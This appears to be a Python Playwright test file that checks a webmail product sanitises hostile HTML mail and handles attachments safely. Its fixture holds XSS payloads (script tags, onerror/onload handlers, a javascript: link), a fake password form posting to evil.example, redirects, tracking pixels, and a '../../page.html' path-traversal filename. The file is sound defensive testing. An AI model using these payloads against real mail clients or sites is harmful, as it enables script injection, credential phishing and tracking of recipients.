"""Mail as strangers write it: nothing of it acts, nothing is asked of other hosts, and what is attached comes whole."""

import re
import zlib
from email.message import EmailMessage
from pathlib import Path
from struct import pack

from playwright.sync_api import expect

from tests.browser.conftest import OpenTab
from tests.browser.desk import SHOP, Desk

EVIL = "http://evil.example"
HOSTILE = f"""<html><head><script>parent.document.title = "owned"; top.location = "{EVIL}/script"</script>
<link rel=stylesheet href="{EVIL}/style.css"><meta http-equiv=refresh content="0;url={EVIL}/refresh">
<style>body {{ background: url({EVIL}/background.png) }} @import "{EVIL}/import.css";</style>
<base href="{EVIL}/"></head>
<body onload="parent.document.title='owned'"><h1>Invoice overdue</h1>
<img src="{EVIL}/pixel.png" onerror="parent.document.title='owned'"><img src="x" onerror="top.location='{EVIL}/x'">
<img src="cid:logo@shop" alt="Our logo"><img src="cid:page@shop" alt="Not an image"><img src="cid:nothing@shop">
<form action="{EVIL}/form" method="post"><input name="password"><button>Log in again</button></form>
<iframe src="{EVIL}/frame"></iframe><object data="{EVIL}/object"></object>
<svg onload="parent.document.title='owned'"></svg>
<p style="position:fixed;inset:0;background:url({EVIL}/style.png)">covers everything</p>
<a href="javascript:parent.document.title='owned'">A script</a> <a href="{EVIL}/link">A link</a></body></html>"""


def picture(width: int, height: int) -> bytes:
    """A PNG of one colour."""
    rows = (b"\0" + bytes((52, 87, 213)) * width) * height
    chunks = [
        (b"IHDR", pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)),
        (b"IDAT", zlib.compress(rows)),
        (b"IEND", b""),
    ]
    written = (pack(">I", len(data)) + kind + data + pack(">I", zlib.crc32(kind + data)) for kind, data in chunks)
    return b"\x89PNG\r\n\x1a\n" + b"".join(written)


def letter(subject: str) -> EmailMessage:
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "Billing <billing@calderon.test>", SHOP, subject
    mail["Message-ID"], mail["Date"] = f"<{subject.replace(' ', '.')}@calderon.test>", "Sun, 22 Nov 2026 10:00:00 +0000"
    mail.set_content("Invoice overdue")
    return mail


def receive(desk: Desk, mail: EmailMessage) -> str:
    """Hand it to the MX; the path of its conversation."""
    desk.receive(mail, "billing@calderon.test")
    return desk.page_of(desk.product.message(str(mail["Message-ID"]).strip("<>")).id)


def test_hostile_html_does_nothing(desk: Desk, open_tab: OpenTab, artifacts: Path) -> None:
    mail = letter("Hostile mail")
    mail.add_alternative(HOSTILE, subtype="html")
    html = mail.get_payload()[1]  # type: ignore[index]
    html.add_related(picture(60, 30), "image", "png", cid="<logo@shop>", filename="logo.png")  # type: ignore[union-attr]
    html.add_related(b"<script>1</script>", "image", "png", cid="<page@shop>", filename="page.png")  # type: ignore[union-attr]
    page = open_tab(receive(desk, mail))
    title = page.title()
    frame = page.locator("iframe.mail-body")
    expect(frame).to_have_attribute("sandbox", "allow-same-origin allow-popups allow-popups-to-escape-sandbox")
    body = page.frame_locator("iframe.mail-body")
    expect(body.get_by_role("heading", name="Invoice overdue")).to_be_visible()
    expect(
        body.locator("script, form, input, iframe, object, svg, link, meta[http-equiv], [onerror], [onload]")
    ).to_have_count(0)
    expect(body.locator("base[href]")).to_have_count(0)
    expect(body.get_by_text("A link")).to_have_attribute("href", f"{EVIL}/link")
    expect(body.get_by_text("A link")).to_have_attribute("rel", "noopener noreferrer")
    expect(body.locator("a", has_text="A script")).not_to_have_attribute(
        "href", "javascript:parent.document.title='owned'"
    )
    expect(body.get_by_text("Not loaded: 1 remote image")).to_be_visible()
    logo = body.get_by_alt_text("Our logo")
    expect(logo).to_have_js_property("naturalWidth", 60)
    expect(body.get_by_alt_text("Not an image")).not_to_have_attribute("src", re.compile("."))
    page.screenshot(path=artifacts / "hostile.png")
    assert page.title() == title
    assert page.url.startswith(desk.product.web)
    expect(page.locator(".file")).to_have_text(["page.png 18 B"])

    page.goto(desk.url("/sandbox"))
    message_id = desk.submit("Kept as sent", ["Ana Ruiz <ana@calderon.test>"])
    desk.settled(message_id, "delivered")
    page.get_by_role("link", name="Kept as sent").click()
    expect(page.locator(".sheet .text")).to_contain_text("Thank you for your order.")


def test_attachments_are_downloaded_whole(desk: Desk, open_tab: OpenTab, tmp_path: Path) -> None:
    mail, content = letter("With attachments"), bytes(range(256)) * 4000
    name = "Überweisung für Pärtner.pdf"
    mail.add_attachment(content, maintype="application", subtype="pdf", filename=name)
    mail.add_attachment(b"<script>alert(1)</script>", maintype="text", subtype="html", filename="../../page.html")
    page = open_tab(receive(desk, mail))
    expect(page.locator(".file b")).to_have_count(2)
    with page.expect_download() as waiting:
        page.get_by_role("link", name="Überweisung").click()
    assert waiting.value.suggested_filename == name
    waiting.value.save_as(tmp_path / "saved")
    assert (tmp_path / "saved").read_bytes() == content
    with page.expect_download() as waiting:
        page.get_by_role("link", name="page.html").click()
    assert "/" not in waiting.value.suggested_filename
    assert page.url.startswith(f"{desk.product.web}/inbox/")
